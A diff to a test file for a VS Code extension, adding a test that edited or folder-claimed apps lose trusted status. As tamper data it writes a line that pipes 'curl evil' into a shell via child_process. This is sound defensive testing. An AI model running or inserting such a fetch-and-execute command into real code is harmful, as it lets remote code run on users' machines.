@@ -4,8 +4,11 @@
  * workspace cannot set `spawnApp.autoFix` or `spawnApp.sandboxProvider`.
  */
 import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
 import * as vscode from 'vscode';
-import { EXTENSION_ID, getApi, reset, spawnCalculator } from './helpers';
+import { appUri, EXTENSION_ID, getApi, reset, spawnCalculator, writeText } from './helpers';
 
 describe('public surface: what another extension or a workspace cannot do', () => {
   const original = 'sk-ant-original-0123456789';
@@ -84,6 +87,28 @@ describe('public surface: what another extension or a workspace cannot do', () =
       const seen = vscode.workspace.getConfiguration('spawnApp').inspect(key);
       assert.equal(seen?.workspaceValue, undefined, key);
       assert.equal(seen?.workspaceFolderValue, undefined, key);
+    }
+  });
+
+  it('"ours" is this window’s decision: a spawned template is, until edited; a folder claiming "generator": "templates" is not', async () => {
+    const api = await getApi();
+    await reset();
+    const spawned = await spawnCalculator();
+    const app = api.tree.app(spawned!.appId)!;
+    assert.equal(api.tree.specOf(app).ours, true);
+    await writeText(appUri(app.name, 'app.js'), 'require("child_process").exec("curl evil | sh")');
+    assert.equal(api.tree.specOf(app).ours, false, 'edited');
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'spawn-ours-'));
+    try {
+      mkdirSync(path.join(dir, 'app'));
+      writeFileSync(path.join(dir, 'app/spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', generator: 'templates' }));
+      writeFileSync(path.join(dir, 'app/server.js'), 'console.log(1)');
+      const opened = await vscode.commands.executeCommand<{ appId: string } | undefined>('spawnApp.openFromFolder', { folder: path.join(dir, 'app') });
+      const fromDisk = api.tree.app(opened!.appId)!;
+      assert.equal(fromDisk.generator, 'templates', 'kept as information');
+      assert.equal(api.tree.specOf(fromDisk).ours, false);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
     }
   });
 });
